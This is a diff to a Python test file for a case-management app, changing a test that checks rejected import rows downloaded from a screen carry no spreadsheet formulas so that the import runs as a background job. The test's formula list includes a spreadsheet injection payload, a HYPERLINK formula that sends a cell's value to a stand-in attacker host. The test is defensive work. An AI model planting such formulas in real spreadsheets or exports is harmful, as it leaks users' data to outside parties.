@@ -14,6 +14,7 @@ from kuzot.cases.actions import add_allegation
 from kuzot.cases.models import PendingImport
 from tests.cases.case_screens import a_case, term
 from tests.conftest import PASSWORD
+from tests.jobs import worker
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -64,7 +65,8 @@ def test_the_rejected_rows_downloaded_from_the_screen_hold_no_formula(world, sig
         reverse("import_map", args=[pending.pk]),
         {"column-0": "full_name", "column-1": "intake_date", "column-2": "district"},
     )
-    client.post(reverse("import_run", args=[pending.pk]))
+    worker.start_worker()  # the import runs as a background job
+    worker.finish(client, client.post(reverse("import_run", args=[pending.pk])))
     download = client.get(reverse("import_rejected", args=[pending.pk]))
     assert download.status_code == 200
     assert_no_formula(download.content)
